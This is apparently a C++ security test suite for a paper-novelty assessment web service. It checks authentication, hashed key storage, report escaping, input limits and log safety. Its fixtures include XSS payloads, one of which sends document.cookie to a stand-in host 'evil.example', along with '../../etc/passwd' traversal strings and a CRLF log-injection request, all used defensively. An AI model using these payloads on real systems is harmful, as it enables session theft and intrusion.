// Security properties of the service, through the real pipeline and binary:
// every non-public route needs a key; keys are stored hashed; the HTML and
// Markdown reports escape hostile submission and corpus text; every input
// limit (body size, batch size, text length, JSON depth, claim count) holds;
// neither keys nor submission text reach the logs.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <fcntl.h>
#include <unistd.h>

#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <future>
#include <regex>
#include <set>
#include <thread>

#include "base/hash.h"
#include "index/index_builder.h"
#include "index/test_index_util.h"
#include "novelta/assessor.h"
#include "services/http/http_server.h"
#include "services/http/raw_client_test_util.h"
#include "services/service.h"
#include "tests/pdf_bytes.h"

namespace novelta {
namespace {

namespace fs = std::filesystem;

constexpr char kAdminKey[] = "sec-test-admin-key-7f3a9c21d4e8b6a05f1e";
// Hostile text in the submission and in a corpus paper the submission retrieves.
constexpr char kHostileTitle[] = "Graph <script>alert('t')</script> Networks \"><img src=x onerror=alert(1)>";
constexpr char kHostileAbstract[] =
    "We propose semi-supervised node classification with graph convolutional networks "
    "<script>document.location='//evil.example/'+document.cookie</script> and an "
    "attribute breaker \" onmouseover=\"alert(2)\" x=\" on citation networks. "
    "Our method is the first to scale linearly in the number of graph edges.";
constexpr char kCorpusHostileTitle[] = "Semi-Supervised <svg onload=alert(3)> Graph Convolutional Node Classification";

std::string ReadAll(const fs::path& p) {
  std::ifstream in(p, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(in), {});
}

// The fixture corpus plus one paper with hostile title and abstract, indexed once.
const std::string& HostileIndexDir() {
  static const std::string dir = [] {
    fs::path root = fs::temp_directory_path() / ("novelta_sec_index_" + std::to_string(::getpid()));
    fs::remove_all(root);
    fs::create_directories(root);
    std::string corpus = ReadAll(testing::FixtureCorpusPath());
    Json hostile = {{"id", "hostile-1"},
                    {"title", kCorpusHostileTitle},
                    {"abstract",
                     "Graph convolutional networks for semi-supervised node classification on citation "
                     "networks <script>alert(4)</script> with a \"><iframe src=javascript:alert(5)> twist."},
                    {"year", 2017},
                    {"venue", "<b>iclr</b>"}};
    std::ofstream((root / "corpus.jsonl").string()) << corpus << DumpJson(hostile) << "\n";
    auto m = BuildIndex((root / "corpus.jsonl").string(), (root / "index").string(), testing::SmallIndexOptions());
    if (!m.ok()) throw std::runtime_error(m.status().ToString());
    return (root / "index").string();
  }();
  return dir;
}

std::shared_ptr<const Assessor> RealAssessor() {
  static std::shared_ptr<const Assessor> a = [] {
    auto opened = OpenAssessor(HostileIndexDir());
    if (!opened.ok()) throw std::runtime_error(opened.status().ToString());
    return std::shared_ptr<const Assessor>(std::move(*opened));
  }();
  return a;
}

class SecurityTest : public ::testing::Test {
 protected:
  void SetUp() override {
    state_ = fs::temp_directory_path() / ("novelta_sec_state_" + std::to_string(::getpid()) + "_" +
                                          ::testing::UnitTest::GetInstance()->current_test_info()->name());
    fs::remove_all(state_);
    config_.state_dir = state_.string();
    config_.bootstrap_api_key = kAdminKey;
    config_.max_batch = 5;
    config_.auth_failure_burst = 1000;  // these tests send many wrong keys on purpose
    auto s = NoveltyService::Open(config_, RealAssessor());
    ASSERT_TRUE(s.ok()) << s.status().ToString();
    service_ = std::move(*s);
  }
  void TearDown() override {
    service_.reset();
    fs::remove_all(state_);
  }

  HttpResponse Call(const std::string& method, const std::string& path, const std::string& body = "",
                    const std::string& key = kAdminKey, std::map<std::string, std::string> query = {},
                    const std::string& content_type = "application/json") {
    HttpRequest req;
    req.method = method;
    req.path = path;
    req.query = std::move(query);
    req.body = body;
    if (!body.empty()) req.headers["Content-Type"] = content_type;
    if (!key.empty()) req.headers["Authorization"] = "Bearer " + key;
    auto p = std::make_shared<std::promise<HttpResponse>>();
    auto f = p->get_future();
    service_->Handle(std::move(req), [p](HttpResponse r) { p->set_value(std::move(r)); });
    EXPECT_EQ(f.wait_for(std::chrono::seconds(60)), std::future_status::ready);
    return f.get();
  }

  // Submits and waits for the report; returns the job id.
  std::string AssessHostile() {
    Json sub = {{"title", kHostileTitle}, {"abstract", kHostileAbstract}, {"external_id", "<i>x</i>\"'&"}};
    HttpResponse r = Call("POST", "/v1/assessments", DumpJson(sub), kAdminKey, {{"wait", "60"}});
    EXPECT_EQ(r.status, 200) << r.body;
    auto j = ParseJson(r.body, "response");
    EXPECT_TRUE(j.ok());
    EXPECT_EQ((*j)["status"], "done") << r.body;
    return (*j)["id"].get<std::string>();
  }

  fs::path state_;
  ServiceConfig config_;
  std::unique_ptr<NoveltyService> service_;
};

TEST_F(SecurityTest, EveryRouteButHealthReadinessAndOpenApiNeedsAKey) {
  std::string id = AssessHostile();
  Json doc = NoveltyService::OpenApiDocument();
  std::set<std::string> public_routes;
  int protected_routes = 0;
  for (const auto& [pattern, ops] : doc["paths"].items()) {
    std::string path = std::regex_replace(pattern, std::regex("\\{id\\}"), id);
    for (const auto& [method, op] : ops.items()) {
      std::string m = method;
      for (char& c : m) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
      bool is_public = op["security"].empty();
      std::string body = m == "POST" ? DumpJson(Json{{"title", "T"}, {"abstract", "An abstract."}}) : "";
      HttpResponse none = Call(m, path, body, "");
      HttpResponse wrong = Call(m, path, body, std::string(kAdminKey) + "x");
      HttpResponse prefix = Call(m, path, body, std::string(kAdminKey).substr(0, 20));
      if (is_public) {
        public_routes.insert(m + " " + pattern);
        EXPECT_NE(none.status, 401) << m << " " << pattern;
        continue;
      }
      ++protected_routes;
      EXPECT_EQ(none.status, 401) << m << " " << pattern << ": " << none.body;
      EXPECT_EQ(wrong.status, 401) << m << " " << pattern;
      EXPECT_EQ(prefix.status, 401) << m << " " << pattern;
      EXPECT_NE(none.headers["WWW-Authenticate"].find("Bearer"), std::string::npos);
      // The same route with the key is not refused for want of one.
      if (m != "DELETE") EXPECT_NE(Call(m, path, body).status, 401) << m << " " << pattern;
    }
  }
  EXPECT_EQ(public_routes, (std::set<std::string>{"GET /healthz", "GET /readyz", "GET /openapi.json"}));
  EXPECT_GE(protected_routes, 10);
  // The job still exists (DELETE was never authorised).
  EXPECT_EQ(Call("GET", "/v1/assessments/" + id).status, 200);
}

// Keys cannot be guessed fast: past its failure burst an address gets 429
// before any key it sends is checked, the right one included, until the
// bucket refills.
TEST_F(SecurityTest, FailedAuthenticationsAreRateLimitedPerAddress) {
  service_.reset();
  config_.auth_failure_burst = 3;
  config_.auth_failures_per_second = 0.01;
  auto opened = NoveltyService::Open(config_, RealAssessor());
  ASSERT_TRUE(opened.ok()) << opened.status().ToString();
  service_ = std::move(*opened);
  EXPECT_EQ(Call("GET", "/v1/assessments").status, 200);  // a valid key costs nothing
  for (int i = 0; i < 3; ++i) EXPECT_EQ(Call("GET", "/v1/assessments", "", "guess-" + std::to_string(i)).status, 401);
  HttpResponse limited = Call("GET", "/v1/assessments", "", "guess-3");
  EXPECT_EQ(limited.status, 429) << limited.body;
  EXPECT_GE(std::stoi(limited.headers["Retry-After"]), 1);
  EXPECT_NE(limited.body.find("failed authentications"), std::string::npos) << limited.body;
  EXPECT_EQ(Call("GET", "/v1/assessments").status, 429);  // checked before the key
  EXPECT_EQ(Call("GET", "/healthz", "", "").status, 200);  // public routes are not affected
}

TEST_F(SecurityTest, KeysAreStoredOnlyAsHashes) {
  auto key = service_->keys()->Create("reader", Scope::kRead);
  ASSERT_TRUE(key.ok()) << key.status().ToString();
  ASSERT_EQ(Call("GET", "/v1/assessments", "", *key).status, 200);
  service_.reset();  // close the database so every page is on disk
  std::string all;
  for (const auto& e : fs::recursive_directory_iterator(state_))
    if (e.is_regular_file()) all += ReadAll(e.path());
  ASSERT_FALSE(all.empty());
  EXPECT_EQ(all.find(*key), std::string::npos) << "a key in clear in the state directory";
  EXPECT_EQ(all.find(kAdminKey), std::string::npos) << "the bootstrap key in clear in the state directory";
  EXPECT_NE(all.find(Sha256Hex(*key)), std::string::npos) << "the key's hash is what is stored";
}

TEST_F(SecurityTest, ReportsEscapeHostileSubmissionAndCorpusText) {
  std::string id = AssessHostile();
  HttpResponse html = Call("GET", "/v1/assessments/" + id + "/report.html");
  ASSERT_EQ(html.status, 200) << html.body;
  const std::string& page = html.body;
  // The hostile text reached the page (so the test means something)...
  EXPECT_NE(page.find("&lt;script&gt;alert("), std::string::npos);
  ASSERT_NE(page.find("onmouseover"), std::string::npos) << "the submission's abstract is shown";
  EXPECT_NE(page.find("&lt;svg onload=alert(3)&gt;"), std::string::npos) << "the hostile corpus paper is retrieved";
  // ...and only escaped: no script, no element and no attribute it brought.
  for (const char* raw : {"<script", "<img", "<svg", "<iframe", "<b>iclr", "<i>x</i>", "\" onmouseover=\"",
                          "onerror=alert(1)>"}) {
    EXPECT_EQ(page.find(raw), std::string::npos) << "unescaped '" << raw << "' in the HTML report";
  }
  // Every attribute value in the page is quoted and holds no raw hostile quote.
  std::smatch m;
  std::string rest = page;
  while (std::regex_search(rest, m, std::regex("<[a-z][a-z0-9]*\\s[^>]*>"))) {
    std::string tag = m.str();
    EXPECT_EQ(tag.find("onmouseover"), std::string::npos) << tag;
    EXPECT_EQ(tag.find("onerror"), std::string::npos) << tag;
    EXPECT_EQ(tag.find("onload"), std::string::npos) << tag;
    rest = m.suffix();
  }
  EXPECT_NE(html.headers["Content-Security-Policy"].find("default-src 'none'"), std::string::npos);

  HttpResponse md = Call("GET", "/v1/assessments/" + id + "/report.md");
  ASSERT_EQ(md.status, 200);
  // Markdown passes raw HTML through, so every '<' the text brought must be
  // backslash-escaped (CommonMark then shows it as a literal character).
  int hostile_tags = 0;
  for (const char* raw : {"<script", "<img", "<svg", "<iframe"}) {
    for (size_t at = md.body.find(raw); at != std::string::npos; at = md.body.find(raw, at + 1)) {
      ++hostile_tags;
      EXPECT_TRUE(at > 0 && md.body[at - 1] == '\\') << "raw HTML in the Markdown report: "
                                                      << md.body.substr(at > 20 ? at - 20 : 0, 60);
    }
  }
  EXPECT_GT(hostile_tags, 0) << "the hostile text reached the Markdown report";
}

TEST_F(SecurityTest, PathsFromRequestsAreIdsNotFiles) {
  for (const char* id : {"../../etc/passwd", "..%2f..%2fetc%2fpasswd", "/etc/passwd", "novelta.db"}) {
    HttpResponse r = Call("GET", std::string("/v1/assessments/") + id + "/report.html");
    EXPECT_TRUE(r.status == 404) << id << " -> " << r.status;
    EXPECT_EQ(r.body.find("root:"), std::string::npos);
  }
}

TEST_F(SecurityTest, BatchSizeIsLimited) {
  Json sub = {{"title", "T"}, {"abstract", "We propose a method."}};
  Json ok = {{"submissions", Json::array()}};
  for (int i = 0; i < config_.max_batch; ++i) ok["submissions"].push_back(sub);
  EXPECT_EQ(Call("POST", "/v1/assessments:batch", DumpJson(ok)).status, 202);
  ok["submissions"].push_back(sub);
  HttpResponse r = Call("POST", "/v1/assessments:batch", DumpJson(ok));
  EXPECT_EQ(r.status, 400);
  EXPECT_NE(r.body.find("1 to " + std::to_string(config_.max_batch)), std::string::npos) << r.body;
}

TEST_F(SecurityTest, TextLengthsAreLimited) {
  IngestLimits defaults;
  Json sub = {{"title", "T"}, {"abstract", std::string(defaults.max_abstract_bytes + 1, 'a')}};
  for (const char* route : {"/v1/assessments", "/v1/claims", "/v1/related"}) {
    HttpResponse r = Call("POST", route, DumpJson(sub));
    EXPECT_EQ(r.status, 400) << route;
    EXPECT_NE(r.body.find("max_abstract_bytes"), std::string::npos) << route << ": " << r.body;
  }
  Json big = {{"title", "T"}, {"abstract", "We propose a method."},
              {"fulltext", "# T\n\n## Abstract\n\nWe propose a method.\n\n## 1 Introduction\n\n" +
                               std::string(defaults.max_text_bytes + 1, 'b')}};
  HttpResponse r = Call("POST", "/v1/assessments", DumpJson(big));
  EXPECT_EQ(r.status, 400);
  EXPECT_NE(r.body.find("max_text_bytes"), std::string::npos) << r.body;
  std::string markdown = "# T\n\n## Abstract\n\nWe propose a method.\n\n" + std::string(defaults.max_text_bytes + 1, 'c');
  r = Call("POST", "/v1/claims", markdown, kAdminKey, {}, "text/markdown");
  EXPECT_EQ(r.status, 400);
  EXPECT_NE(r.body.find("max_text_bytes"), std::string::npos) << r.body;
}

TEST_F(SecurityTest, JsonDepthIsLimited) {
  std::string shallow = "{\"title\":\"T\",\"abstract\":\"A.\",\"x\":" + std::string(60, '[') + std::string(60, ']') + "}";
  EXPECT_EQ(Call("POST", "/v1/claims", shallow).status, 200);
  std::string deep = "{\"title\":\"T\",\"abstract\":\"A.\",\"x\":" + std::string(100000, '[') + std::string(100000, ']') + "}";
  for (const char* route : {"/v1/assessments", "/v1/claims", "/v1/related", "/v1/assessments:batch"}) {
    HttpResponse r = Call("POST", route, deep);
    EXPECT_EQ(r.status, 400) << route;
    EXPECT_NE(r.body.find("deeper"), std::string::npos) << route << ": " << r.body;
  }
}

TEST_F(SecurityTest, ClaimCountIsLimited) {
  // Hundreds of distinct claim-like sentences: the extractor keeps at most max_claims.
  std::string abstract;
  auto word = [](int i) {
    std::string w;
    for (int k = 0; k < 3; ++k, i /= 26) w += static_cast<char>('a' + i % 26);
    return w + "ality";
  };
  for (int i = 0; i < 300; ++i) {
    abstract += "We propose the " + word(i) + " estimator for " + word(i + 300) + " graphs with " +
                word(i + 600) + " kernels. ";
  }
  Json sub = {{"title", "Many claims"}, {"abstract", abstract.substr(0, 19000)}};
  HttpResponse r = Call("POST", "/v1/claims", DumpJson(sub));
  ASSERT_EQ(r.status, 200) << r.body;
  auto j = ParseJson(r.body, "claims");
  ASSERT_TRUE(j.ok());
  size_t n = (*j)["claims"].size();
  EXPECT_GT(n, 5u) << "the text does hold claims";
  EXPECT_LE(n, ExtractorOptions().max_claims);
}

// ---- Over a socket: the body limit, and the logs of the real binary ----

struct RawReply {
  int status = 0;
  std::string text;
};

// Sends `request` (the server may close early on a refused body) and reads
// until the server closes, for at most 30 s.
RawReply SendRaw(int port, const std::string& request) {
  RawReply out;
  testing::RawConnection c(port);
  if (!c.connected()) return out;
  c.Send(request);
  c.ClosedWithin(30000);
  out.text = c.data();
  if (out.text.rfind("HTTP/1.1 ", 0) == 0) out.status = std::atoi(out.text.c_str() + 9);
  return out;
}

std::string Post(const std::string& path, const std::string& key, const std::string& body) {
  return "POST " + path + " HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nContent-Type: application/json\r\n" +
         (key.empty() ? "" : "Authorization: Bearer " + key + "\r\n") +
         "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
}

// A PDF of `pages` pages with a line of text each, the first the title.
std::string ManyPagePdf(int pages) {
  std::vector<std::string> objects = {"<< /Type /Catalog /Pages 2 0 R >>", "",
                                      "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"};
  std::string kids;
  for (int p = 0; p < pages; ++p) {
    const int page_obj = 4 + 2 * p;
    kids += std::to_string(page_obj) + " 0 R ";
    std::string text = p == 0 ? "A Study of Slow Documents" : "Abstract. We propose a method on page " + std::to_string(p);
    std::string content = "BT /F1 10 Tf 72 740 Td (" + text + ") Tj ET";
    objects.push_back("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> "
                      "/Contents " + std::to_string(page_obj + 1) + " 0 R >>");
    objects.push_back("<< /Length " + std::to_string(content.size()) + " >>\nstream\n" + content + "\nendstream");
  }
  objects[1] = "<< /Type /Pages /Kids [" + kids + "] /Count " + std::to_string(pages) + " >>";
  return testing::AssemblePdf(objects);
}

// PDF uploads are read on a pool of their own with a time limit: a slow PDF
// holds a PDF thread, not a request thread, and is cut off at pdf_seconds;
// past the pool's queue, uploads get 503 while other requests are answered.
TEST_F(SecurityTest, PdfUploadsAreReadOffTheRequestThreadsWithATimeLimit) {
  service_.reset();
  config_.pdf_threads = 1;
  config_.pdf_queue = 1;
  config_.pdf_seconds = 1e-6;  // over before the first page
  auto opened = NoveltyService::Open(config_, RealAssessor());
  ASSERT_TRUE(opened.ok()) << opened.status().ToString();
  service_ = std::move(*opened);
  const std::string small = ManyPagePdf(3);
  HttpResponse cut = Call("POST", "/v1/claims", small, kAdminKey, {}, "application/pdf");
  EXPECT_EQ(cut.status, 400) << cut.body;
  EXPECT_NE(cut.body.find("reading it took over"), std::string::npos) << cut.body;

  service_.reset();
  config_.pdf_seconds = 60;
  opened = NoveltyService::Open(config_, RealAssessor());
  ASSERT_TRUE(opened.ok()) << opened.status().ToString();
  service_ = std::move(*opened);
  EXPECT_EQ(Call("POST", "/v1/claims", small, kAdminKey, {}, "application/pdf").status, 200);
  // One slow PDF occupies the only PDF thread and a second waits in its
  // queue, while the requests that brought them have returned to their callers ...
  const std::string slow = ManyPagePdf(6000);  // about a second to read here
  auto post_async = [&](std::shared_ptr<std::promise<HttpResponse>> p) {
    HttpRequest req;
    req.method = "POST";
    req.path = "/v1/claims";
    req.body = slow;
    req.headers["Content-Type"] = "application/pdf";
    req.headers["Authorization"] = std::string("Bearer ") + kAdminKey;
    const auto start = std::chrono::steady_clock::now();
    service_->Handle(std::move(req), [p](HttpResponse r) { p->set_value(std::move(r)); });
    EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::milliseconds(500));
    return p->get_future();
  };
  auto first = post_async(std::make_shared<std::promise<HttpResponse>>());
  std::this_thread::sleep_for(std::chrono::milliseconds(100));  // the PDF thread takes it
  auto second = post_async(std::make_shared<std::promise<HttpResponse>>());
  // ... a third upload is refused at once, and other requests are answered.
  HttpResponse busy = Call("POST", "/v1/claims", small, kAdminKey, {}, "application/pdf");
  EXPECT_EQ(busy.status, 503) << busy.body;
  EXPECT_FALSE(busy.headers["Retry-After"].empty());
  EXPECT_EQ(Call("GET", "/healthz", "", "").status, 200);
  EXPECT_EQ(Call("POST", "/v1/claims", DumpJson(Json{{"title", "T"}, {"abstract", "We propose a method."}})).status,
            200);
  for (auto* f : {&first, &second}) {
    ASSERT_EQ(f->wait_for(std::chrono::seconds(120)), std::future_status::ready);
    EXPECT_EQ(f->get().status, 200);
  }
}

TEST_F(SecurityTest, BodySizeIsLimited) {
  HttpServerOptions options;
  options.host = "127.0.0.1";
  options.port = 0;
  options.max_body_bytes = 64 << 10;
  NoveltyService* svc = service_.get();
  auto server = HttpServer::Start(options, [svc](HttpRequest r, HttpReply reply) { svc->Handle(std::move(r), std::move(reply)); });
  ASSERT_TRUE(server.ok()) << server.status().ToString();
  int port = (*server)->port();
  std::string fits = DumpJson(Json{{"title", "T"}, {"abstract", "We propose a method. " + std::string(1000, 'x')}});
  EXPECT_EQ(SendRaw(port, Post("/v1/claims", kAdminKey, fits)).status, 200);
  // Declared too large: refused before the body is read.
  std::string big(options.max_body_bytes + 1, 'x');
  RawReply r = SendRaw(port, Post("/v1/claims", kAdminKey, big));
  EXPECT_EQ(r.status, 413) << r.text.substr(0, 300);
  // Chunked, so no Content-Length to go by: refused once the limit is passed.
  std::string chunked = "POST /v1/claims HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
                        "Content-Type: application/json\r\nAuthorization: Bearer " + std::string(kAdminKey) +
                        "\r\nTransfer-Encoding: chunked\r\n\r\n";
  for (int i = 0; i < 4; ++i) {
    char size[16];
    std::snprintf(size, sizeof(size), "%x\r\n", 32 << 10);
    chunked += size + std::string(32 << 10, 'y') + "\r\n";
  }
  chunked += "0\r\n\r\n";
  r = SendRaw(port, chunked);
  EXPECT_EQ(r.status, 413) << r.text.substr(0, 300);
  (*server)->Stop();
}

// TRACE and OPTIONS reach the service's route table (an HTTP library may answer
// them itself, TRACE echoing the Authorization and Cookie headers); a method
// name that is not HTTP's is 501; no answer may be framed.
TEST_F(SecurityTest, TraceOptionsAndUnknownMethodsAreAnsweredByTheService) {
  HttpServerOptions options;
  options.host = "127.0.0.1";
  options.port = 0;
  NoveltyService* svc = service_.get();
  auto server = HttpServer::Start(options, [svc](HttpRequest r, HttpReply reply) { svc->Handle(std::move(r), std::move(reply)); });
  ASSERT_TRUE(server.ok()) << server.status().ToString();
  const int port = (*server)->port();
  auto request = [](const std::string& method, const std::string& path) {
    return method + " " + path + " HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nAuthorization: Bearer " +
           std::string(kAdminKey) + "\r\nCookie: session=c00k1e-s3cret\r\n\r\n";
  };
  for (const char* path : {"/healthz", "/v1/claims", "/v1/assessments"}) {
    RawReply trace = SendRaw(port, request("TRACE", path));
    EXPECT_EQ(trace.status, 405) << trace.text;
    EXPECT_EQ(trace.text.find("c00k1e-s3cret"), std::string::npos) << trace.text;
    EXPECT_EQ(trace.text.find(kAdminKey), std::string::npos) << trace.text;
    EXPECT_NE(trace.text.find("application/problem+json"), std::string::npos) << trace.text;
    EXPECT_NE(trace.text.find("Allow: "), std::string::npos) << trace.text;
    RawReply opts = SendRaw(port, request("OPTIONS", path));
    EXPECT_EQ(opts.status, 405) << opts.text;
    EXPECT_NE(opts.text.find("application/problem+json"), std::string::npos) << opts.text;
  }
  RawReply bogus = SendRaw(port, request("FROB", "/healthz"));
  EXPECT_EQ(bogus.status, 501) << bogus.text;
  RawReply ok = SendRaw(port, request("GET", "/healthz"));
  EXPECT_EQ(ok.status, 200) << ok.text;
  EXPECT_NE(ok.text.find("X-Frame-Options: DENY"), std::string::npos) << ok.text;
  (*server)->Stop();
}

TEST(SecurityLogTest, NeitherKeysNorSubmissionTextReachTheLogs) {
  fs::path dir = fs::temp_directory_path() / ("novelta_sec_log_" + std::to_string(::getpid()));
  fs::remove_all(dir);
  fs::create_directories(dir);
  const std::string marker = "ZQXMARKER" + std::to_string(::getpid()) + "WVY";
  const std::string wrong_key = "wrong-key-" + marker;
  fs::path log = dir / "serve.log";
  const std::string index_dir = testing::FixtureIndexDir();  // built here, not in the child
  pid_t pid = ::fork();
  if (pid == 0) {
    ::setenv("NOVELTA_BOOTSTRAP_API_KEY", kAdminKey, 1);
    ::setenv("NOVELTA_LOG_LEVEL", "debug", 1);  // even the most verbose level
    int fd = ::open(log.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
    ::dup2(fd, 1);
    ::dup2(fd, 2);
    ::execl(NOVELTA_BINARY, NOVELTA_BINARY, "serve", "--index", index_dir.c_str(), "--state",
            (dir / "state").c_str(), "--port", "0", static_cast<char*>(nullptr));
    ::_exit(127);
  }
  int port = 0;
  for (int i = 0; i < 300 && port == 0; ++i) {
    std::smatch m;
    std::string text = ReadAll(log);
    if (std::regex_search(text, m, std::regex("listening on http://[0-9.]+:([0-9]+)"))) port = std::stoi(m[1]);
    else std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  if (port == 0) ::kill(pid, SIGKILL);
  ASSERT_GT(port, 0) << ReadAll(log);
  Json sub = {{"title", "Title " + marker},
              {"abstract", "We propose " + marker + ", the first method to do it. It beats baselines by 3 points."}};
  EXPECT_EQ(SendRaw(port, Post("/v1/assessments?wait=30&external_id=" + marker, kAdminKey, DumpJson(sub))).status, 200);
  EXPECT_EQ(SendRaw(port, Post("/v1/claims", kAdminKey, DumpJson(sub))).status, 200);
  EXPECT_EQ(SendRaw(port, Post("/v1/related", kAdminKey, DumpJson(sub))).status, 200);
  EXPECT_EQ(SendRaw(port, Post("/v1/claims", kAdminKey, "{\"title\": \"" + marker + "\", bad json")).status, 400);
  EXPECT_EQ(SendRaw(port, Post("/v1/claims", wrong_key, DumpJson(sub))).status, 401);
  // A decoded CR/LF in the path cannot write a line of its own.
  SendRaw(port, "GET /v1/x%0D%0Aaccess%20FORGED%20%22GET%20/admin%22%20200 HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                "Connection: close\r\n\r\n");
  ::kill(pid, SIGTERM);
  int st = 0;
  ::waitpid(pid, &st, 0);
  EXPECT_TRUE(WIFEXITED(st) && WEXITSTATUS(st) == 0);
  std::string text = ReadAll(log);
  EXPECT_NE(text.find("access"), std::string::npos) << "requests are logged at all";
  EXPECT_EQ(text.find("\naccess FORGED"), std::string::npos) << "a forged log line:\n" << text;
  EXPECT_NE(text.find("\\x0d\\x0aaccess FORGED"), std::string::npos) << "the path, escaped:\n" << text;
  EXPECT_EQ(text.find(marker), std::string::npos) << "submission text, ids or a presented key in the log:\n" << text;
  EXPECT_EQ(text.find(kAdminKey), std::string::npos) << "the bootstrap key in the log";
  EXPECT_EQ(text.find(std::string(kAdminKey).substr(0, 16)), std::string::npos) << "part of the key in the log";
  fs::remove_all(dir);
}

}  // namespace
}  // namespace novelta
